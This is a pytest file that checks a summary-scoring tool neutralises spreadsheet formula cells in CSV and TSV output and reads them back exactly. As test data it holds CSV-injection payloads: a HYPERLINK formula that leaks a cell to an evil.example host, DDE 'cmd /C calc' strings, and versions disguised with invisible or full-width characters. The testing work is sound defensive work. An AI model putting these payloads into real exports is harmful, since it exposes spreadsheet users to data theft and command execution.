"""CSV and TSV results never run in a spreadsheet (OWASP's CSV injection), and read back as written.

Every text cell that a spreadsheet would evaluate (it begins with = + - @, a tab or a CR) gets a
leading ', every text cell is quoted (a separator inside one never starts a cell), numbers stay
numbers; ``--raw-csv`` keeps the text as it is; ``--resume`` reads a neutralised file back and
finds its ids and fingerprints.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from summscore.cli import main
from summscore.files.cells import TRIGGERS, neutralise, restore
from summscore.files.datasets import read_results

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def _rows() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for i, formula in enumerate(FORMULAS):
        rows.append(
            {
                "id": formula if i % 2 else f"{formula} #{i}",
                "source": f"The council of Leeds approved {40 + i} homes on Monday.",
                # The offline judge quotes a summary's words in its reason and claims.
                "summary": f'{formula} approved {40 + i} homes; =HYPERLINK("x") too.',
            }
        )
    rows.append({"id": "'=already marked", "source": "The bridge opened.", "summary": "It opened."})
    rows.append({"id": -7, "source": "The bridge opened in 1901.", "summary": "It opened in 1901."})
    rows.append({"id": "-7.5", "source": "The bridge opened.", "summary": "-0.5 of it opened."})
    return rows


def _write(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _score(*args: str) -> int:
    return main(["score", *args, "--no-progress"])


def _cells(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _live(cell: str) -> bool:
    """Whether a spreadsheet would evaluate ``cell`` (a number is a number, not a formula)."""
    if not cell or cell[0] not in TRIGGERS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".tsv", "\t")])
def test_no_cell_of_any_column_would_run_in_a_spreadsheet(
    tmp_path: Path, suffix: str, delimiter: str
) -> None:
    data = _write(tmp_path / "in.jsonl", _rows())
    out = tmp_path / f"out{suffix}"
    assert _score(str(data), "--out", str(out)) in (0, 3)  # (3: rows failed)
    cells = _cells(out, delimiter)
    header, body = cells[0], cells[1:]
    assert len(body) == len(_rows())
    live = [(header[i], cell) for row in body for i, cell in enumerate(row) if _live(cell)]
    assert live == []
    ids = [row[0] for row in body]
    assert ids[0] == "'" + FORMULAS[0] + " #0" and ids[1] == "'" + FORMULAS[1]
    assert ids[-3:] == ["''=already marked", "-7", "-7.5"]  # numbers stay numbers
    # Every text cell is quoted: a separator inside one never starts a cell (OWASP).
    raw = out.read_text(encoding="utf-8").splitlines()[1]
    assert raw.startswith('"') and f'{delimiter}"' in raw


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_every_text_column_is_neutralised_and_every_number_kept(tmp_path: Path, fmt: str) -> None:
    from summscore.files.result_rows import FLOATS, INTEGERS, WRITTEN
    from summscore.files.tables import write_table

    record: dict[str, Any] = {}
    for name in WRITTEN:  # the run's columns (summary_column, options, ...) too
        if name in FLOATS:
            record[name] = -0.5
        elif name in INTEGERS:
            record[name] = -3
        elif name == "success":
            record[name] = False
        elif name in ("missed_questions", "unsupported_claims", "warnings"):
            record[name] = ["=1+2", "@x"]
        elif name == "claim_support":
            record[name] = [{"claim": "=1+2", "support": 0.5}]
        elif name == "options":
            record[name] = {"=x": "@y", "n": -1}
        else:
            record[name] = f'=HYPERLINK("{name}")'
    out = tmp_path / f"out.{fmt}"
    write_table(out, fmt, [record])
    header, row = _cells(out, "\t" if fmt == "tsv" else ",")
    assert [header[i] for i, cell in enumerate(row) if _live(cell)] == []
    assert row[header.index("reason")] == '\'=HYPERLINK("reason")'
    assert row[header.index("score")] == "-0.5" and row[header.index("judge_calls")] == "-3"
    assert list(read_results(out)) == [record]  # read back exactly, numbers as numbers


def test_raw_csv_writes_the_text_as_it_is(tmp_path: Path) -> None:
    data = _write(tmp_path / "in.jsonl", _rows())
    out = tmp_path / "out.csv"
    assert _score(str(data), "--out", str(out), "--raw-csv") in (0, 3)  # (3: rows failed)
    ids = [row[0] for row in _cells(out, ",")[1:]]
    assert ids[1] == FORMULAS[1] and ids[-3] == "'=already marked"
    assert [r["id"] for r in read_results(out, raw_csv=True)][:2] == [
        f"{FORMULAS[0]} #0",
        FORMULAS[1],
    ]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_resume_reads_a_neutralised_file_back_and_keeps_every_row(
    tmp_path: Path, suffix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _rows()
    data = _write(tmp_path / "in.jsonl", rows)
    out = tmp_path / f"out{suffix}"
    jsonl = tmp_path / "out.jsonl"
    assert _score(str(data), "--out", str(jsonl)) in (0, 3)  # (3: rows failed)
    assert _score(str(data), "--out", str(out)) in (0, 3)  # (3: rows failed)
    capsys.readouterr()
    back = list(read_results(out))
    want = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    # The ids, fingerprints, texts and numbers read back are the JSONL file's (the id as text).
    assert [str(r["id"]) for r in back] == [str(r["id"]) for r in want]
    for got, expected in zip(back, want):
        assert got["fingerprint"] == expected["fingerprint"]
        assert (got["reason"], got["score"], got["warnings"]) == (
            expected["reason"],
            expected["score"],
            expected["warnings"],
        )
    before = out.read_bytes()
    assert _score(str(data), "--out", str(out), "--resume") in (0, 3)  # (3: rows failed)
    assert f"{len(rows)} rows kept from the earlier run" in capsys.readouterr().err
    assert out.read_bytes() == before


_BLANKS = " \u00a0\u3000\u2009\n\ufeff\u200b\u2060"


def _live_after_trim(cell: str) -> bool:
    """Whether ``cell`` is a formula to an import that trims blanks (spaces of any kind, line
    breaks, a BOM, zero-width characters) and reads full-width signs as ASCII ones."""
    text = cell.lstrip(_BLANKS + "\t\r").translate(str.maketrans("＝＋－＠", "=+-@"))
    if cell[:1] == "'" or not text or text[0] not in "=+-@":
        return False
    try:
        float(text.rstrip(_BLANKS))
    except ValueError:
        return True
    return False


@pytest.mark.parametrize(
    "text",
    [
        " =cmd|' /C calc'!A0",
        '\u00a0=HYPERLINK("http://evil.example")',
        "\ufeff@SUM(1+1)",
        "\u200b+1+cmd",
        "\n-2+3",
        "\u3000=1+2",
        '＝HYPERLINK("http://evil.example")',
        "＋1＋cmd",
    ],
)
def test_a_formula_behind_blanks_or_in_full_width_signs_gets_the_mark_too(text: str) -> None:
    assert _live_after_trim(text)  # (the check itself sees it)
    cell = neutralise(text)
    assert cell == "'" + text and restore(cell) == text
    assert neutralise(" -5") == " -5" and neutralise("\u00a0+0.25 ") == "\u00a0+0.25 "


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("=+-@\t\r'a1.eE ,;\"\n＝＋" + _BLANKS), max_size=8)
    | st.text(max_size=8)
)
def test_the_mark_comes_off_exactly(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert not _live(cell)
    assert not _live_after_trim(cell)
